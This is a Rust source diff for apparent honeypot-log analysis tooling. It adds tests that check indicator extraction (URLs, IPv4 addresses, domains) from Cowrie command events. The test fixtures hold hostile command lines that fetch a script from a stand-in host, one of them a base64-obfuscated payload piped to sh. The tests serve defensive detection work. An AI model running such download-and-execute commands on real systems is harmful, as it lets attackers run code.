@@ -66,13 +66,17 @@ impl Summary {
         for (index, term) in terms.terms.iter().enumerate() {
             let value = &terms.values[term.start as usize..][..term.len as usize];
             assert_eq!(term.hash, term_hash(term.field, value));
+            // What texts name has its own tests; here random text names things by chance.
+            let random = term.field.is_indicator() || term.field > Field::Cve;
             let mut cells = Cells::new();
             while let Some(count) = counts.next_if(|count| count.term == index as u32) {
                 assert!(count.count > 0);
                 assert_eq!(cells.insert(cell(count.cell), count.count), None, "one row per term and cell");
             }
             let key = (term.field, String::from_utf8(value.to_vec()).unwrap());
-            assert_eq!(summary.terms.insert(key, (term.first, term.last, cells)), None, "terms are distinct");
+            if !random {
+                assert_eq!(summary.terms.insert(key, (term.first, term.last, cells)), None, "terms are distinct");
+            }
         }
         assert!(counts.next().is_none(), "counts are in the order of their terms");
         for part in &terms.sessions {
@@ -110,7 +114,7 @@ impl Summary {
             let sensor = text("sensor").unwrap_or_default();
             let cell = (sensor.clone(), time::day_of(time));
             let mut terms = BTreeSet::new();
-            for &field in &Field::ALL[..=Field::Cve as usize] {
+            for &field in Field::ALL.iter().filter(|field| !field.is_indicator() && **field <= Field::Cve) {
                 let names: &[&str] = match field {
                     Field::Session => &[],
                     Field::Command => &["input", "attempted_command"],
@@ -423,5 +427,58 @@ mod failpoints {
             assert_eq!((terms.terms.len(), times.len(), ids.len()), (2, 5, 5));
             scenario.teardown();
         }
+    }
+}
+
+/// The terms of a batch that are indicators, each with how many events have it.
+fn indicators(batch: &Batch) -> BTreeMap<(&'static str, String), u32> {
+    let events = |index: usize| batch.terms.counts.iter().filter(|count| count.term == index as u32).map(|count| count.count).sum();
+    let terms = batch.terms.terms.iter().enumerate().filter(|(_, term)| term.field.is_indicator());
+    let value = |term: &crate::index::BlockTerm| batch.terms.values[term.start as usize..][..term.len as usize].to_vec();
+    terms.map(|(index, term)| ((term.field.name(), String::from_utf8(value(term)).unwrap()), events(index))).collect()
+}
+
+#[test]
+fn what_texts_name_becomes_terms_and_is_counted_once_for_each_event() {
+    let line = |n: u32, command: &str| {
+        format!("{{\"eventid\":\"cowrie.command.input\",\"session\":\"{n:012x}\",\"input\":{}}}\n", serde_json::json!(command))
+    };
+    let data = [
+        line(1, "wget http://198.51.100.7/x.sh; curl hxxp://198[.]51[.]100[.]7/x.sh"),
+        line(2, "wget http://198.51.100.7/x.sh; curl hxxp://198[.]51[.]100[.]7/x.sh"),
+        line(3, "echo d2dldCBodHRwOi8vZXZpbC5leGFtcGxlLmNvbS9i | base64 -d | sh"),
+        line(3, "echo d2dldCBodHRwOi8vZXZpbC5leGFtcGxlLmNvbS9i | base64 -d | sh"),
+        line(4, "uname -a"),
+    ]
+    .concat();
+    let mut batcher = Batcher::new();
+    let batch = batcher.extract(chunk(data.as_bytes()), &());
+    let expected = [
+        (("domain", "evil.example.com"), 1),
+        (("ipv4", "198.51.100.7"), 2),
+        (("url", "http://198.51.100.7/x.sh"), 2),
+        (("url", "http://evil.example.com/b"), 1),
+    ];
+    let expected = expected.map(|((field, value), events)| ((field, value.to_owned()), events));
+    assert_eq!(indicators(&batch), BTreeMap::from(expected));
+    assert_eq!((batch.duplicates, batch.unread_texts), (1, 0));
+    assert_eq!(batch.detections, [(Field::Url, 3), (Field::Domain, 1), (Field::Ipv4, 2)]);
+    // A line's own URL is not counted as found in it again.
+    let download = "{\"eventid\":\"cowrie.session.file_download\",\"url\":\"http://198.51.100.7/x.sh\"}\n";
+    let batch = batcher.extract(chunk(download.as_bytes()), &());
+    assert_eq!(batch.detections, [(Field::Ipv4, 1)]);
+}
+
+#[test]
+fn more_distinct_texts_than_are_remembered_change_nothing() {
+    let line = |n: u32| format!("{{\"input\":\"wget http://198.51.{}.{}/{n}\"}}\n", n / 256 % 256, n % 256);
+    let mut remembering = Batcher::new();
+    for first in (0..60_000).step_by(5_000) {
+        let data: String = (first..first + 5_000).map(line).collect();
+        let batch = remembering.extract(chunk(data.as_bytes()), &());
+        let again = remembering.extract(chunk(data.as_bytes()), &());
+        assert_eq!(indicators(&batch), indicators(&Batcher::new().extract(chunk(data.as_bytes()), &())));
+        assert_eq!(indicators(&again), indicators(&batch));
+        assert_eq!(batch.detections, [(Field::Url, 5_000), (Field::Ipv4, 5_000)]);
     }
 }
